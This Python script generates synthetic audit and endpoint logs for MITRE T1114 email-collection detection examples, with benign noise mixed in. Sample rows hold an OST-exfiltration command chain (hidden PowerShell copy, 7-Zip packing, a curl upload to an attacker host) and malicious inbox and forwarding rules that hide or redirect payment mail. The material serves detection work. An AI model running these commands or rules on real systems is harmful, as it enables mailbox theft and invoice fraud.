#!/usr/bin/env python3
"""Writes examples/: small composed logs in the real export formats, one story per T1114
sub-technique plus a business-email-compromise case that chains them. Deterministic; the
output is committed. Placeholder tenants, RFC 5737 / RFC 3849 addresses, example.* domains."""
import csv
import gzip
import io
import json
import os
import random

OUT = os.path.join(os.path.dirname(__file__), "..", "examples")
rng = random.Random(1114)


def guid(n):
    return "%08x-0000-4000-8000-%012x" % (0x5eed0000 + n, n)


def write(path, text, binary=False):
    full = os.path.join(OUT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    if binary:
        with open(full, "wb") as f:
            f.write(text)
    else:
        with open(full, "w", newline="", encoding="utf-8") as f:
            f.write(text)


# ---- T1114.001: Defender DeviceFileEvents (JSON Lines, Advanced Hunting export) ----------
def file_event(n, ts, device, action, folder, name, proc, cmd, account):
    return {
        "Timestamp": ts, "DeviceId": "dev-" + device.split(".")[0],
        "DeviceName": device, "ActionType": action, "FileName": name,
        "FolderPath": folder + "\\" + name, "SHA1": "", "SHA256": "", "FileSize": 1048576 * (n + 3),
        "InitiatingProcessFileName": proc, "InitiatingProcessCommandLine": cmd,
        "InitiatingProcessAccountName": account,
        "InitiatingProcessAccountUpn": account + "@contoso.example",
        "InitiatingProcessFolderPath": "C:\\Windows\\System32\\" + proc,
        "ReportId": 4000 + n,
    }


dev = "ws-042.corp.contoso.example"
outlook = "C:\\Users\\dave\\AppData\\Local\\Microsoft\\Outlook"
rows = [
    # Outlook itself and the indexer touching the OST: normal.
    file_event(1, "2025-03-04T08:01:12.1234567Z", dev, "FileModified", outlook, "dave@contoso.example.ost",
               "OUTLOOK.EXE", "\"OUTLOOK.EXE\"", "dave"),
    file_event(2, "2025-03-04T08:05:40.5000000Z", dev, "FileRead", outlook, "dave@contoso.example.ost",
               "SearchProtocolHost.exe", "SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe", "SYSTEM"),
    # A developer's files that only look like mail stores.
    file_event(3, "2025-03-04T09:10:00.0000000Z", dev, "FileCreated", "C:\\src\\tools", "msgpack.py",
               "python.exe", "python.exe -m pip install msgpack", "dave"),
    file_event(4, "2025-03-04T09:11:00.0000000Z", dev, "FileCreated", "C:\\Users\\dave\\Documents", "notes.pstx",
               "powershell.exe", "powershell.exe -c ni notes.pstx", "dave"),
    # The collection: PowerShell copies the OST out of the profile, 7-Zip packs it, curl sends it.
    file_event(5, "2025-03-04T10:01:58.7654321Z", dev, "FileCopied", outlook, "dave@contoso.example.ost",
               "powershell.exe", "powershell.exe -nop -w hidden -c Copy-Item $env:LOCALAPPDATA\\Microsoft\\Outlook\\*.ost C:\\Users\\Public\\", "dave"),
    file_event(6, "2025-03-04T10:02:30.0000000Z", dev, "FileCreated", "C:\\Users\\Public", "backup.pst.7z",
               "7z.exe", "7z.exe a -pP@ss C:\\Users\\Public\\backup.pst.7z C:\\Users\\Public\\*.ost", "dave"),
    file_event(7, "2025-03-04T10:03:05.0000000Z", dev, "FileRead", "C:\\Users\\Public", "backup.pst.7z",
               "curl.exe", "curl.exe -T C:\\Users\\Public\\backup.pst.7z https://files.attacker.example/u", "dave"),
]
write("t1114.001-mail-store-copy/DeviceFileEvents.jsonl",
      "".join(json.dumps(r, separators=(",", ":")) + "\n" for r in rows))

# ---- T1114.002: bulk mail access, Purview portal CSV export (8 columns, AuditData) ---------
def mia(n, ts, user, ip, client, ua=None, count=1):
    rec = {
        "CreationTime": ts, "Id": guid(n), "Operation": "MailItemsAccessed",
        "OrganizationId": "11111111-2222-3333-4444-555555555555", "RecordType": 50,
        "ResultStatus": "Succeeded", "UserKey": "10030000A1B2C3D4", "UserType": 0, "Version": 1,
        "Workload": "Exchange", "ClientIP": ip, "UserId": user,
        "AppId": "00000003-0000-0000-c000-000000000000",
        "ClientAppId": "aaaaaaaa-0000-4000-8000-000000000001", "ClientIPAddress": ip.split("]")[0].strip("["),
        "ClientInfoString": client, "ExternalAccess": False, "InternalLogonType": 0, "LogonType": 0,
        "MailboxGuid": "22222222-0000-4000-8000-000000000003", "MailboxOwnerUPN": user,
        "OperationProperties": [{"Name": "MailAccessType", "Value": "Bind"},
                                {"Name": "IsThrottled", "Value": "False"}],
        "SessionId": "33333333-0000-4000-8000-000000000004", "OperationCount": count,
        "Folders": [{"Id": "LgAAAAA1", "Path": "\\Inbox", "FolderItems": [
            {"InternetMessageId": "<m%d@mail.contoso.example>" % n, "SizeInBytes": 40000 + n}]}],
    }
    if ua:
        rec["UserAgent"] = ua
    return rec


recs = []
n = 0
# erin: an ordinary day in Outlook on the web, 40 reads in the 09:00 bin (below every threshold).
for i in range(40):
    n += 1
    recs.append(mia(n, "2025-03-04T09:%02d:%02d" % (i % 30, (i * 7) % 60), "erin@contoso.example",
                    "198.51.100.20", "Client=OWA;Action=ViaProxy"))
# frank: a script pulls 230 items through Graph from one address in the 10:00-10:30 bin.
for i in range(230):
    n += 1
    recs.append(mia(n, "2025-03-04T10:%02d:%02d" % (i % 30, (i * 13) % 60), "frank@contoso.example",
                    "203.0.113.77:5%04d" % i, "Client=REST;Client=RESTSystem;;",
                    ua="python-requests/2.31.0"))
# grace: a phone and three VPN exits: five client addresses in the 11:00 bin, normal volume.
ips = ["192.0.2.10", "192.0.2.11", "[2001:db8:aa::1]:443", "[2001:db8:bb::5]:443", "198.51.100.99:50433"]
for i in range(15):
    n += 1
    recs.append(mia(n, "2025-03-04T11:%02d:00" % (i * 2), "grace@contoso.example", ips[i % 5],
                    "Client=Microsoft.Exchange.ActiveSync;iPhone"))
rng.shuffle(recs)  # exports are not in time order
buf = io.StringIO()
w = csv.writer(buf, lineterminator="\r\n")
w.writerow(["RecordId", "CreationDate", "RecordType", "Operation", "UserId", "AuditData",
            "AssociatedAdminUnits", "AssociatedAdminUnitsNames"])
for r in recs:
    w.writerow([r["Id"], r["CreationTime"] + ".0000000Z ", 50, r["Operation"], r["UserId"],
                json.dumps(r, separators=(",", ":")), "", ""])
write("t1114.002-bulk-mail-access/purview_audit_export.csv", "\ufeff" + buf.getvalue())

# ---- T1114.003: forwarding rules, Sentinel OfficeActivity JSON rows ------------------------
def admin(n, ts, op, user, ip, params, obj=None):
    return {
        "TimeGenerated": ts + "Z", "Operation": op, "OfficeWorkload": "Exchange",
        "RecordType": "ExchangeAdmin", "UserType": "Regular", "UserId": user, "ClientIP": ip,
        "ResultStatus": "True", "OfficeObjectId": obj or user.split("@")[0],
        "Parameters": json.dumps(params, separators=(",", ":")), "OfficeId": guid(1000 + n),
        "OrganizationName": "contoso.onmicrosoft.com", "Type": "OfficeActivity",
    }


def p(**kw):
    return [{"Name": k, "Value": v} for k, v in kw.items()]


rows = [
    # An assistant forwards the boss's travel mails to a colleague: internal, informational.
    admin(1, "2025-03-04T08:15:00", "New-InboxRule", "henry@contoso.example", "198.51.100.20:51000",
          p(Mailbox="henry", Name="Travel to Ivy", From="travel@contoso.example",
            ForwardTo="ivy@contoso.example", StopProcessingRules="False")),
    # Forwarding is switched off again: clearing is not an alert.
    admin(2, "2025-03-04T08:20:00", "Set-Mailbox", "jack@contoso.example", "198.51.100.21",
          p(Identity="jack", ForwardingSmtpAddress="", DeliverToMailboxAndForward="False")),
    # The attack: everything about invoices goes out, and no copy stays behind.
    admin(3, "2025-03-04T09:15:22", "New-InboxRule", "kate@contoso.example", "[2001:db8:66::9]:443",
          p(Mailbox="kate", Name=".", SubjectOrBodyContainsWords="invoice;payment",
            ForwardTo="smtp:kate.backup@mail-drop.example", DeleteMessage="True",
            StopProcessingRules="True")),
    admin(4, "2025-03-04T09:40:02", "Set-Mailbox", "kate@contoso.example", "[2001:db8:66::9]:443",
          p(Identity="kate", ForwardingSmtpAddress="smtp:kate.backup@mail-drop.example",
            DeliverToMailboxAndForward="False")),
]
write("t1114.003-forwarding-rule/OfficeActivity.json",
      "".join(json.dumps(r, separators=(",", ":")) + "\n" for r in rows))

# ---- BEC case: Management Activity API JSON array, gzip-compressed -----------------------
victim, attacker_ip = "liam@contoso.example", "203.0.113.45"
api = []
n = 5000
for i in range(210):  # the attacker reads the whole mailbox from one address, Graph client
    n += 1
    r = mia(n, "2025-03-05T14:%02d:%02d" % (i % 30, (i * 17) % 60), victim, attacker_ip + ":%d" % (40000 + i),
            "Client=REST;Client=RESTSystem;;")
    api.append(r)
api.append({  # then hides replies about payments in RSS Subscriptions, marked read
    "CreationTime": "2025-03-05T14:33:14", "Id": guid(9001), "Operation": "New-InboxRule",
    "OrganizationId": "11111111-2222-3333-4444-555555555555", "RecordType": 1, "ResultStatus": "True",
    "UserKey": "10030000A1B2C3D9", "UserType": 0, "Version": 1, "Workload": "Exchange",
    "ClientIP": attacker_ip + ":50433", "ObjectId": "liam\\..", "UserId": victim, "ExternalAccess": False,
    "OrganizationName": "contoso.onmicrosoft.com", "OriginatingServer": "XX1PR00MB0000 (15.20.0000.000)",
    "Parameters": p(Mailbox="liam", Name="..", SubjectOrBodyContainsWords="payment;bank details;wire",
                    MoveToFolder="RSS Subscriptions", MarkAsRead="True", StopProcessingRules="True")})
api.append({  # and adds an Outlook client rule that redirects everything to a free-mail address
    "CreationTime": "2025-03-05T14:41:09", "Id": guid(9002), "Operation": "UpdateInboxRules",
    "OrganizationId": "11111111-2222-3333-4444-555555555555", "RecordType": 2, "ResultStatus": "Succeeded",
    "UserKey": "10030000A1B2C3D9", "UserType": 0, "Version": 1, "Workload": "Exchange",
    "ClientIP": attacker_ip, "UserId": victim, "ClientInfoString": "Client=MSExchangeRPC",
    "MailboxOwnerUPN": victim, "MailboxGuid": "22222222-0000-4000-8000-000000000099",
    "OperationProperties": [
        {"Name": "RuleOperation", "Value": "AddMailboxRule"},
        {"Name": "RuleName", "Value": "sync"},
        {"Name": "RuleState", "Value": "Enabled"},
        {"Name": "RuleActions", "Value": json.dumps([
            {"ActionType": "Redirect", "Recipients": ["liam.contoso@freemail.example"]},
            {"ActionType": "DeferAction"}], separators=(",", ":"))}]})
api.append(dict(api[-1]))  # the Management API repeats records by design: a duplicate
write("bec-case/ual_api_content.json.gz",
      gzip.compress(json.dumps(api, separators=(",", ":")).encode(), mtime=0), binary=True)
print("examples written to", os.path.normpath(OUT))
